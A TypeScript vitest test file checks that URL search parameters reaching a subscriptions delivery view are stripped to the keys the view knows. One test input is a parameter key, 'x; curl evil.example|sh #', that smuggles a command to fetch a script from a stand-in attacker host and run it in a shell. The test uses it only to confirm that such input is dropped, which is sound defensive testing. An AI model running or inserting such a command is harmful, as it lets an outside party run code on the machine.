import { describe, expect, it } from 'vitest';
import { readDeliverySearch } from '../views/subscriptions/delivery-search';
import { onlyKnown } from './known-search';

/** As the router puts them together. */
const shown = (given: Readonly<Record<string, unknown>>) => ({ ...given, ...onlyKnown(readDeliverySearch)(given) });

describe('the search of a URL', () => {
  it('comes to a view without what the view does not know', () => {
    expect(JSON.stringify(shown({ 'x; curl evil.example|sh #': 1, utm_source: 'slack', subscription: 'chat' }))).toBe(
      '{"subscription":"chat"}',
    );
  });

  it('comes without values that the view does not know', () => {
    expect(JSON.stringify(shown({ outcome: 'foo' }))).toBe('{}');
  });
});
